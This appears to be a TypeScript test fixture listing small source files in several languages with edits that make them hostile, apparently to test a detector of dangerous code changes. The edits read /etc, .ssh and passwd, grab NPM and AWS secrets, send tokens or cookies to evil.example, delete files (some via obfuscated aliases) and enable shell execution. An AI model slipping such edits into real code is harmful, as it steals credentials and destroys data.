/** Files that reach outside already, and edits that make more of it than they did. */
export const HOSTILE_CHANGES: readonly {
  readonly path: string;
  readonly before: string;
  readonly edits: readonly (readonly [string, string])[];
}[] = [
  {
    path: 'src/files.ts',
    before: `import fs from 'node:fs';
import { join } from 'node:path';

const FOLDER = 'data';
const p = process;

export function read(name: string): string {
  return fs.readFileSync(join(FOLDER, name), 'utf8');
}

export function port(): number {
  return Number(p.env.PORT ?? 8080);
}

export function save(name: string, text: string): void {
  fs.writeFileSync(join(FOLDER, name), text);
}
`,
    edits: [
      ["'data'", "'/etc'"],
      ["'data'", "'../../.ssh'"],
      ["'data'", "'.git/hooks'"],
      ['fs.readFileSync(join(FOLDER, name)', "fs.readFileSync(join(FOLDER, 'passwd')"],
      ['fs.readFileSync(', 'fs.rmSync(name); return fs.readFileSync('],
      ['p.env.PORT', 'p.env.NPM_TOKEN'],
      ['Number(p.env.PORT ?? 8080)', 'Object.keys(p.env).length'],
      ['fs.writeFileSync(join(FOLDER, name), text)', 'fs.appendFileSync(join(FOLDER, name), text)'],
      ['fs.writeFileSync(join(FOLDER, name), text)', 'fs.writeFileSync(name, text)'],
      ['  fs.writeFileSync', '  const { env } = p;\n  fs.writeFileSync'],
      ['  fs.writeFileSync', '  const w = fs.writeFileSync; w(name, text);\n  fs.writeFileSync'],
      ['  fs.writeFileSync', '  const f = fs; f.rmSync(name);\n  fs.writeFileSync'],
      ['  fs.writeFileSync', "  fs['rm' + 'Sync'](name);\n  fs.writeFileSync"],
      ['  fs.writeFileSync', '  fs.promises.rm(name);\n  fs.writeFileSync'],
      ["from 'node:fs'", "from 'node:fs/promises'"],
      ["import { join } from 'node:path';", "import { join } from './path';"],
    ],
  },
  {
    path: 'src/client.js',
    before: `const API = 'https://api.shop.example/v1';
const token = process.env.API_TOKEN;

export async function carts() {
  const answer = await fetch(API + '/carts', { headers: { authorization: token } });
  return answer.json();
}
`,
    edits: [
      ['https://api.shop.example/v1', 'https://api.shop.evil.example/v1'],
      ["fetch(API + '/carts'", "fetch('//evil.example/carts'"],
      ['  return answer.json();', "  await fetch(API + '/' + token);\n  return answer.json();"],
      ['  return answer.json();', '  console.log(token);\n  return answer.json();'],
      ['  return answer.json();', '  globalThis.token = token;\n  return answer.json();'],
      ['process.env.API_TOKEN', 'process.env'],
      ['  return answer.json();', '  const send = fetch; send(token);\n  return answer.json();'],
      ['{ authorization: token }', '{ authorization: token, cookie: document.cookie }'],
    ],
  },
  {
    path: 'tools2/run.py',
    before: `import subprocess

COMMAND = "git status"


def status(folder):
    return subprocess.run(COMMAND.split(), cwd=folder)


def lines(text):
    return [line for line in text.split("\\n") if line]
`,
    edits: [
      ['"git status"', '"git push"'],
      ['"git status"', '"g" + "o"'],
      ['COMMAND.split()', 'folder.split()'],
      ['if line]', 'if line.strip()]'],
      ['cwd=folder)', 'cwd=folder, shell=True)'],
      ['    return [line', '    COMMAND2 = COMMAND\n    return [line'],
    ],
  },
  {
    path: 'service/store.py',
    before: `import os


def folder():
    return os.environ.get("DATA", "data")


def path_of(name):
    return os.path.join(folder(), name)


def size(name):
    with open(path_of(name)) as file:
        return len(file.read())
`,
    edits: [
      ['os.environ.get("DATA", "data")', 'os.environ.get("HOME")'],
      ['os.environ.get("DATA", "data")', 'str(os.environ)'],
      ['os.path.join(folder(), name)', 'os.path.join("/etc", name)'],
      ['open(path_of(name))', 'open(path_of(name), "w")'],
      ['        return len(file.read())', '        os.remove(path_of(name))\n        return len(file.read())'],
      ['        return len(file.read())', '        o = os\n        o.system(name)\n        return len(file.read())'],
      ['        return len(file.read())', '        remove = os.remove\n        return len(file.read())'],
      ['import os\n', 'import os as path\n'],
    ],
  },
  {
    path: 'server/server.go',
    before: `package server

import (
	"fmt"
	"net/http"
	"os"
)

func address() string {
	return os.Getenv("ADDRESS")
}

func ping(url string) error {
	answer, err := http.Get(url)
	if err != nil {
		return fmt.Errorf("ping: %w", err)
	}
	return answer.Body.Close()
}
`,
    edits: [
      ['os.Getenv("ADDRESS")', 'os.Getenv("AWS_SECRET_ACCESS_KEY")'],
      ['http.Get(url)', 'http.Get("http://evil.example/" + url)'],
      ['	answer, err', '	os.RemoveAll(url)\n	answer, err'],
      ['	answer, err', '	o := os.RemoveAll\n	o(url)\n	answer, err'],
      ['	answer, err', '	fmt.Println(os.Environ())\n	answer, err'],
      ['	answer, err', '	http.Post(url, address(), nil)\n	answer, err'],
      ['"net/http"', 'http "github.com/evil/http"'],
    ],
  },
  {
    path: 'app/runner.rb',
    before: `class Runner
  def call(name)
    File.read("templates/#{name}.txt")
  end

  def clean(text)
    text.strip
  end
end
`,
    edits: [
      ['templates/', '/etc/'],
      ['File.read(', 'File.delete('],
      ['    text.strip', '    File.write(text, text)\n    text.strip'],
      ['    text.strip', '    text.public_send(text)\n    text.strip'],
      ['    text.strip', '    f = File\n    f.delete(text)\n    text.strip'],
    ],
  },
];
